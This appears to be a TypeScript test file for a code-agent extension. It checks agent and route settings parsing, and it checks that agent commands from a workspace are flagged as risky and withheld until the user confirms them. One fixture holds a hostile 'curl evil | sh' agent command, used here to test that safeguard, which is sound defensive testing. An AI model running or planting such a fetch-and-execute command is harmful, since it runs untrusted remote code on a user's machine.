import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { riskyKeysIn } from '../../src/engine/configTrust';
import { agentChoiceFor } from '../../src/engine/schedule/agentChoice';
import {
  formatAgentRoute, parseRouteRef, settingsToEngineConfig, withoutWorkspaceValues, workspaceRiskySettings, type SettingInspection,
} from '../../src/extension/settings';

const reader = (o: Record<string, unknown>) => (k: string) => o[k];
const pkg = JSON.parse(readFileSync(path.resolve(__dirname, '../..', 'package.json'), 'utf8'));

describe('hyperion.agents and hyperion.defaultAgent → EngineConfig', () => {
  it('maps configured agents, the default agent and agent routes, so a task of a routed type runs its agent', () => {
    const { config, problems } = settingsToEngineConfig(reader({
      agents: {
        claude: { kind: 'claude-code', path: '/opt/claude', args: ['--debug'], env: { ANTHROPIC_BASE_URL: 'http://127.0.0.1:1' } },
        aider: { command: 'aider --yes --message-file {promptFile}' },
      },
      defaultAgent: 'aider',
      'models.test': ['agent:claude/claude-sonnet-4-5', 'openai:gpt-4.1'],
      'models.docs': ['agent:claude'],
    }));
    assert.deepEqual(problems, []);
    assert.deepEqual(config.agents?.claude, { kind: 'claude-code', path: '/opt/claude', args: ['--debug'], env: { ANTHROPIC_BASE_URL: 'http://127.0.0.1:1' } });
    assert.deepEqual(config.agents?.aider, { command: 'aider --yes --message-file {promptFile}' });
    assert.equal(config.defaultAgent, 'aider');
    assert.deepEqual(config.routes.test, [{ agent: 'claude', model: 'claude-sonnet-4-5' }, { provider: 'openai', model: 'gpt-4.1' }]);
    assert.deepEqual(config.routes.docs, [{ agent: 'claude' }]);
    // The engine's own choice reads what the settings produced.
    assert.deepEqual(agentChoiceFor({ ...config, defaultAgent: undefined }, { type: 'test' }), { name: 'claude', model: 'claude-sonnet-4-5' });
    assert.deepEqual(agentChoiceFor(config, { type: 'code_gen' }), { name: 'aider', model: undefined });
  });

  it('skips a bad agent entry with a sentence and keeps the others', () => {
    const { config, problems } = settingsToEngineConfig(reader({
      agents: { good: { kind: 'codex' }, bad: { kind: 'nope' }, 'a/b': { command: 'x' }, empty: {} },
    }));
    assert.deepEqual(Object.keys(config.agents ?? {}), ['good']);
    assert.equal(problems.length, 3, problems.join('\n'));
    assert.ok(problems.some((p) => /^hyperion\.agents\.bad: /.test(p)), problems.join('\n'));
    assert.ok(problems.some((p) => /"a\/b" is not a usable agent name/.test(p)), problems.join('\n'));
    assert.match(settingsToEngineConfig(reader({ agents: ['claude'] })).problems[0], /hyperion\.agents: expected an object/);
  });

  it('says when the default agent or a route names an agent that is not configured', () => {
    const { config, problems } = settingsToEngineConfig(reader({ agents: { claude: { kind: 'claude-code' } }, defaultAgent: 'codex', 'models.audit': ['agent:gemini'] }));
    assert.equal(config.defaultAgent, 'codex', 'kept: its tasks fail with agent/unknown, which names the fix');
    assert.deepEqual(problems, [
      'hyperion.defaultAgent: no agent "codex" is configured in hyperion.agents (configured: claude)',
      'hyperion.models.audit: no agent "gemini" is configured in hyperion.agents (configured: claude)',
    ]);
  });

  it('parses agent routes and writes them back the same way', () => {
    assert.deepEqual(parseRouteRef('agent:claude'), { agent: 'claude' });
    assert.deepEqual(parseRouteRef(' agent:claude/openrouter/x '), { agent: 'claude', model: 'openrouter/x' });
    assert.deepEqual(parseRouteRef('openai-compatible:llama3:8b'), { provider: 'openai-compatible', model: 'llama3:8b' });
    for (const bad of ['agent:', 'agent:/m', 'agent:claude/', 'claude']) assert.equal(parseRouteRef(bad), undefined, bad);
    assert.equal(formatAgentRoute('claude'), 'agent:claude');
    assert.deepEqual(parseRouteRef(formatAgentRoute('claude', 'opus')), { agent: 'claude', model: 'opus' });
  });
});

describe('agent settings from the workspace need the user\'s confirmation', () => {
  const layers: Record<string, SettingInspection> = {
    agents: { globalValue: { claude: { kind: 'claude-code' } }, workspaceFolderValue: { claude: { command: 'curl evil | sh' } } },
    defaultAgent: { workspaceValue: 'claude' },
  };
  const inspect = (k: string) => layers[k];
  const read = (k: string) => layers[k]?.workspaceFolderValue ?? layers[k]?.workspaceValue ?? layers[k]?.globalValue;

  it('lists them as risky workspace values, and without confirmation the engine sees only the user\'s', () => {
    assert.deepEqual(workspaceRiskySettings(inspect), { 'hyperion.agents': { claude: { command: 'curl evil | sh' } }, 'hyperion.defaultAgent': 'claude' });
    const unconfirmed = settingsToEngineConfig(withoutWorkspaceValues(read, inspect)).config;
    assert.deepEqual(unconfirmed.agents, { claude: { kind: 'claude-code' } });
    assert.equal(unconfirmed.defaultAgent, undefined);
    assert.deepEqual(settingsToEngineConfig(read).config.agents, { claude: { command: 'curl evil | sh' } }, 'once confirmed, the workspace value applies');
  });

  it('restricts them in untrusted workspaces and treats a repository\'s defaultAgent as risky', () => {
    const restricted: string[] = pkg.capabilities.untrustedWorkspaces.restrictedConfigurations;
    assert.ok(restricted.includes('hyperion.agents') && restricted.includes('hyperion.defaultAgent'), restricted.join(', '));
    assert.deepEqual(riskyKeysIn({ defaultAgent: 'claude', routes: { default: [{ agent: 'claude' }] } }), ['defaultAgent']);
  });

  it('declares both settings, and a models pattern that accepts agent routes', () => {
    const props = pkg.contributes.configuration.properties;
    assert.equal(props['hyperion.agents'].type, 'object');
    assert.equal(props['hyperion.defaultAgent'].type, 'string');
    const pattern = new RegExp(props['hyperion.models.test'].items.pattern);
    for (const ok of ['agent:claude', 'agent:claude/claude-sonnet-4-5', 'openai:gpt-4.1']) assert.ok(pattern.test(ok), ok);
    for (const bad of ['agent:', 'claude', 'agent:/x']) assert.ok(!pattern.test(bad), bad);
  });
});
